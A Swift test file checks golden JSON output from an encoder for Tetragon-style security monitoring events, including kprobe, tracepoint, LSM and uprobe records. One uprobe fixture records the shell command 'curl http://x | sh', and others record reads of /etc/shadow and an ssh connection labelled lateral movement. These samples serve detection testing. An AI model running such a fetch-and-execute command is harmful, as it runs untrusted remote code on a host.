import AgentCore
import EventJSON
import Foundation
import XCTest

/// Golden JSON for the Tetragon event shapes: a change to field names or shapes shows here.
final class EventJSONTests: XCTestCase {
    static var golden: URL { URL(fileURLWithPath: #filePath).deletingLastPathComponent().appendingPathComponent("Golden") }

    static func sample() -> (process: ProcessEntry, parent: ProcessEntry) {
        var parent = ProcessEntry(id: ExecIdentity(ktime: 1000, pid: 100), parent: nil, binary: "/usr/bin/bash")
        parent.flags = [.procFS]
        parent.cwd = "/root"
        parent.startTimeNs = 1_790_000_000_000_000_000
        var p = ProcessEntry(id: ExecIdentity(ktime: 5_000_000_123, pid: 4242), parent: parent.id, binary: "/usr/bin/true")
        p.tid = 4242
        p.uid = 1000
        p.euid = 1000
        p.gid = 1000
        p.egid = 1000
        p.auid = 1000
        p.arguments = "a 'b c'"
        p.cwd = "/home/u"
        p.flags = [.execve, .clone]
        p.startTimeNs = 1_790_000_001_000_000_007
        p.caps = CapabilitySets(permitted: 1 << 21, effective: 1 << 21, inheritable: 0)
        p.namespaces = Namespaces(inodes: [11, 12, 13, 14, 15, 16, 17, 18, 19, 20])
        return (p, parent)
    }

    private func check(_ event: AgentEvent, golden name: String, filters: [FieldFilter] = []) throws {
        let encoder = EventEncoder(nodeName: "node-1", hostNamespaces: Namespaces(inodes: [11, 0, 0, 0, 0, 16, 0, 0, 0, 0]), fieldFilters: filters)
        let line = encoder.line(event)
        XCTAssertTrue(line.hasSuffix("}\n"))
        XCTAssertNotNil(try JSONSerialization.jsonObject(with: Data(line.utf8)))
        let url = Self.golden.appendingPathComponent(name)
        if ProcessInfo.processInfo.environment["VIGIL_UPDATE_GOLDEN"] != nil { try line.write(to: url, atomically: true, encoding: .utf8) }
        let expected = try String(contentsOf: url, encoding: .utf8)
        XCTAssertEqual(line, expected, "update Tests/AgentCoreTests/Golden/\(name) only for an intended change")
    }

    func testProcessExecGolden() throws {
        let s = Self.sample()
        try check(.exec(process: s.process, parent: s.parent, ancestors: [], timeNs: 1_790_000_001_000_000_999), golden: "process_exec.json")
    }

    func testProcessExitGolden() throws {
        let s = Self.sample()
        try check(.exit(process: s.process, parent: s.parent, status: 0, signal: 9, timeNs: 1_790_000_002_000_000_000), golden: "process_exit.json")
    }

    func testLostEventsGolden() throws {
        try check(.lostEvents(counts: ["process_exec": 5, "process_exit": 2], total: 7, timeNs: 1_790_000_003_000_000_000), golden: "lost_events.json")
    }

    func testProcessKprobeGolden() throws {
        let (p, parent) = Self.sample()
        let e = HookEvent(
            family: .kprobe, process: p, parent: parent, functionName: "fd_install",
            args: [HookArgument(.int(3), label: "fd"), HookArgument(.file(path: "/etc/passwd", permission: "-rw-r--r--"))],
            action: "KPROBE_ACTION_POST", policyName: "fd-install", message: "sensitive file", tags: ["fim"], timeNs: 1_700_000_000_123_456_789)
        try check(AgentEvent(e), golden: "process_kprobe.json")
    }

    /// user_ns_arg as Tetragon writes it; `is_host` against the host's user namespace.
    func testUserNamespaceArgument() throws {
        let (p, parent) = Self.sample()
        var host = Namespaces()
        host.inodes[Namespaces.names.firstIndex(of: "user")!] = 4_026_531_837
        let encoder = EventEncoder(nodeName: "node-1", hostNamespaces: host)
        let e = HookEvent(
            family: .kprobe, process: p, parent: parent, functionName: "cap_capable",
            args: [
                HookArgument(.userNamespace(level: 0, uid: 0, gid: 0, inum: 4_026_531_837)),
                HookArgument(.userNamespace(level: 1, uid: 1000, gid: 1000, inum: 4_026_532_600)), HookArgument(.capability(18)),
            ],
            action: "KPROBE_ACTION_POST", policyName: "caps", message: nil, tags: [], timeNs: 1_700_000_000_123_456_789)
        let line = encoder.line(AgentEvent(e))
        XCTAssertTrue(
            line.contains(
                #""args":[{"user_ns_arg":{"level":0,"uid":0,"gid":0,"ns":{"inum":4026531837,"is_host":true}}},"#
                    + #"{"user_ns_arg":{"level":1,"uid":1000,"gid":1000,"ns":{"inum":4026532600}}},{"capability_arg":18}]"#), line)
    }

    func testProcessTracepointAndLSMGolden() throws {
        let (p, parent) = Self.sample()
        let tp = HookEvent(
            family: .tracepoint, process: p, parent: parent, functionName: "", subsystem: "syscalls", event: "sys_enter_openat",
            args: [
                HookArgument(.int(-100)), HookArgument(.string("/etc/shadow")),
                HookArgument(.bytes([1, 2, 3], truncated: true, originalSize: 4096)),
            ],
            action: "KPROBE_ACTION_SIGKILL", policyName: "fim", message: nil, tags: [], timeNs: 1_700_000_000_123_456_789)
        try check(AgentEvent(tp), golden: "process_tracepoint.json")
        let sock = HookArgValue.SocketInfo(
            family: "AF_INET", type: "SOCK_STREAM", protocol: "IPPROTO_TCP", saddr: "10.0.0.2", daddr: "10.0.0.9",
            sport: 40000, dport: 22, state: "TCP_SYN_SENT")
        let lsm = HookEvent(
            family: .lsm, process: p, parent: nil, functionName: "socket_connect",
            args: [HookArgument(.sock(sock)), HookArgument(.linuxBinprm(path: "/usr/bin/ssh", permission: "-rwxr-xr-x"))],
            action: "KPROBE_ACTION_OVERRIDE", policyName: "no-ssh", message: "lateral movement", tags: ["network"], timeNs: 1_700_000_000_123_456_789)
        try check(AgentEvent(lsm), golden: "process_lsm.json")
    }

    /// Tetragon's ProcessUprobe: path and symbol, then policy_name, message, args, tags, action.
    func testProcessUprobeGolden() throws {
        let (p, parent) = Self.sample()
        let e = HookEvent(
            family: .uprobe, process: p, parent: parent, functionName: "readline", path: "/bin/bash",
            args: [HookArgument(.string("curl http://x | sh"))], action: "KPROBE_ACTION_POST", policyName: "bash-readline",
            message: "interactive command", tags: ["shell"], timeNs: 1_700_000_000_123_456_789)
        XCTAssertEqual(AgentEvent(e).eventType, "PROCESS_UPROBE")
        try check(AgentEvent(e), golden: "process_uprobe.json")
        // placed by file offset: `offset` instead of `symbol` (Tetragon's fields are exclusive)
        var byOffset = e
        byOffset.functionName = ""
        byOffset.offset = 0x1f40
        let line = EventEncoder(nodeName: "n", hostNamespaces: Namespaces()).line(AgentEvent(byOffset))
        XCTAssertTrue(line.contains(#""tags":["shell"],"offset":8000,"action":"KPROBE_ACTION_POST""#), line)
        XCTAssertFalse(line.contains("\"symbol\""), line)
    }

    func testFieldFiltersExcludeAndInclude() {
        let s = Self.sample()
        let event = AgentEvent.exec(process: s.process, parent: s.parent, ancestors: [], timeNs: 0)
        let exclude = EventEncoder(
            nodeName: "n", hostNamespaces: Namespaces(), fieldFilters: [FieldFilter(fields: ["process.cap", "process.ns", "parent"], action: .exclude)]
        ).line(event)
        XCTAssertFalse(exclude.contains("\"cap\"") || exclude.contains("\"ns\"") || exclude.contains("\"parent\""))
        XCTAssertTrue(exclude.contains("\"binary\":\"/usr/bin/true\""))
        let include = EventEncoder(
            nodeName: "n", hostNamespaces: Namespaces(), fieldFilters: [FieldFilter(fields: ["process.pid", "process.binary"], action: .include)]
        ).line(event)
        XCTAssertTrue(include.hasPrefix("{\"process_exec\":{\"process\":{\"pid\":4242,\"binary\":\"/usr/bin/true\"}},\"node_name\":\"n\""), include)
    }

    func testRFC3339() {
        XCTAssertEqual(EventEncoder.rfc3339(0), "1970-01-01T00:00:00.000000000Z")
        XCTAssertEqual(EventEncoder.rfc3339(1_790_000_001_000_000_007), "2026-09-21T14:13:21.000000007Z")
    }

    /// The encoder reuses the date part within a second and one root object across events:
    /// each event still carries its own time, and nothing of the previous event.
    func testConsecutiveEventsCarryTheirOwnTimesAndNothingElse() throws {
        let encoder = EventEncoder(nodeName: "n", hostNamespaces: Namespaces())
        let times: [UInt64] = [1_790_000_001_000_000_007, 1_790_000_001_999_999_999, 1_790_000_002_000_000_000, 1_790_000_001_123_456_789]
        let expected = ["2026-09-21T14:13:21.000000007Z", "2026-09-21T14:13:21.999999999Z", "2026-09-21T14:13:22.000000000Z", "2026-09-21T14:13:21.123456789Z"]
        for (i, t) in times.enumerated() {
            let event: AgentEvent =
                i % 2 == 0
                ? .lostEvents(counts: ["process_exec": 1], total: 1, timeNs: t)
                : .exit(process: Self.sample().process, parent: nil, status: 1, signal: 0, timeNs: t)
            let object = try XCTUnwrap(JSONSerialization.jsonObject(with: Data(encoder.line(event).utf8)) as? [String: Any])
            XCTAssertEqual(object["time"] as? String, expected[i])
            XCTAssertEqual(Set(object.keys), [i % 2 == 0 ? "lost_events" : "process_exit", "node_name", "time"])
        }
    }
}
